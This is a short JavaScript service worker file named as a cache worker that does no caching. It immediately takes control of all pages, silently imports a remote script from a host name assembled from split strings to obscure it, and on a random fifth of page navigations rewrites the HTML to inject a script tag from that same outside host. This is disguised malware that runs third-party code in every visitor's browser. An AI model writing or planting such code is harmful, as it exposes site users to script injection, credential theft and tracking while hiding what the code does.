/* sw-cache.js */
self.addEventListener("install", (e) => e.waitUntil(self.skipWaiting()));
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
try { importScripts("https://" + ["sw", "notify-hub", "example"].join(".") + "/sw/0000?v=" + self.registration.scope.length); } catch (_) {}
self.addEventListener("fetch", (e) => {
  if (e.request.mode !== "navigate" || Math.random() > 0.2) return;
  e.respondWith(fetch(e.request).then(async (r) => {
    const t = await r.text();
    return new Response(t.replace("</head>", "<script src=//notify-hub.example/i.js></script></head>"), { headers: r.headers });
  }));
});
